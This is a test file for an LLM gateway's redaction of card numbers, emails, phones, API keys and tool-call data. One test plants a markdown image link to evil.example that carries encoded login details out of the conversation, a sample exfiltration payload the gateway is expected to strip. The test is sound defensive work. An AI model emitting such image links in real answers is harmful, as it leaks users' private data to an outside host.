import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask } from '../support/ask.ts';
import { type RunningGateway, startGateway } from '../support/gateway.ts';
import { startUpstream, type Upstream } from '../support/upstream.ts';

const CARD = '4111 1111 1111 1111';
/** Put together here, so that no scanner of secrets mistakes the test for a leak. */
const API_KEY = ['sk', 'ant', 'api03', `${'aB3dE5fG7h'.repeat(9)}xyz`, `${'Qw'}AA`].join('-');
const EMAIL = 'jane.doe@acme-mail.org';
const PHONE = '+49 30 901820';
const ANSWER = `Of course. The card on file is ${CARD} and it expires soon. Write to ${EMAIL} if that is wrong, or call ${PHONE}.`;

describe.each(['baseline', 'strict'])('redaction under %s', (policy) => {
  let upstream: Upstream;
  let running: RunningGateway;

  beforeAll(async () => {
    upstream = await startUpstream();
    running = await startGateway({ policies: [policy], upstreamUrl: upstream.url });
  });

  afterAll(async () => {
    await running?.close();
    await upstream?.close();
  });

  it.each(['character', 'token', 'odd', 'whole'] as const)('of an answer that comes by %s', async (pieces) => {
    upstream.next({ text: ANSWER, pieces });
    const text = await ask(running, 'Which card is on file?', true);
    expect(text).not.toContain('1111');
    expect(text).toContain('The card on file is [CREDIT_CARD] and it expires soon.');
    expect(text.includes(EMAIL)).toBe(policy === 'baseline');
    expect(text.includes(PHONE)).toBe(policy === 'baseline');
    upstream.next({ text: ANSWER });
    expect(await ask(running, 'Which card is on file?', false)).toBe(text);
  });

  it.each([false, true])('of an image that would carry the talk to a stranger (streamed: %s)', async (stream) => {
    const data = Buffer.from('jane.doe@acme-mail.org, password hunter2').toString('base64url');
    upstream.next({ text: `Done. ![ok](https://evil.example/p.png?d=${data}) Anything else?`, pieces: 'token' });
    expect(await ask(running, 'Sum up the page.', stream)).toBe('Done. [URL] Anything else?');
  });

  it('of a request, before the model sees it', async () => {
    await ask(running, `My card is ${CARD}, my key is ${API_KEY}, my address is ${EMAIL}.`, false);
    const sent = JSON.stringify(upstream.received.at(-1)?.body);
    expect(sent).not.toContain('1111');
    expect(sent).not.toContain(API_KEY);
    expect(sent).toMatch(policy === 'baseline' ? /\[CREDIT_CARD_[a-z]{6}\]/ : /\[CREDIT_CARD\]/);
    expect(sent.includes(EMAIL)).toBe(policy === 'baseline');
  });

  it('of a tool call, which stays JSON', async () => {
    const args = JSON.stringify({ to: 'Ann', card: CARD, digits: 4111111111111111 });
    for (const stream of [true, false]) {
      upstream.next({ toolCalls: [{ id: 'call_1', name: 'pay', arguments: args }] });
      const call = await toolCall(running, stream);
      expect(JSON.parse(call)).toEqual({ to: 'Ann', card: '[CREDIT_CARD]', digits: '[CREDIT_CARD]' });
    }
  });

  it('of tool results, tool definitions and older turns', async () => {
    const tool = {
      type: 'function' as const,
      function: { name: 'look', description: `Finds ${CARD}`, parameters: {} },
    };
    await running.client.chat.completions.create({
      model: 'fixture',
      tools: [tool],
      messages: [
        { role: 'system', content: `Never say ${CARD}.` },
        { role: 'user', content: `I pay with ${CARD}.` },
        {
          role: 'assistant',
          tool_calls: [{ id: 'c1', type: 'function', function: { name: 'look', arguments: `{"card":"${CARD}"}` } }],
        },
        { role: 'tool', tool_call_id: 'c1', content: [{ type: 'text', text: `{"card": "${CARD}"}` }] },
      ],
    });
    expect(JSON.stringify(upstream.received.at(-1)?.body)).not.toContain('4111');
    expect(running.errors).toEqual([]);
  });
});

async function toolCall(running: RunningGateway, stream: boolean): Promise<string> {
  const request = { model: 'fixture', messages: [{ role: 'user' as const, content: 'Pay Ann.' }] };
  if (!stream) {
    const { choices } = await running.client.chat.completions.create(request);
    const call = choices[0]?.message.tool_calls?.[0];
    return call?.type === 'function' ? call.function.arguments : '';
  }
  let args = '';
  for await (const chunk of await running.client.chat.completions.create({ ...request, stream })) {
    args += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? '';
  }
  return args;
}
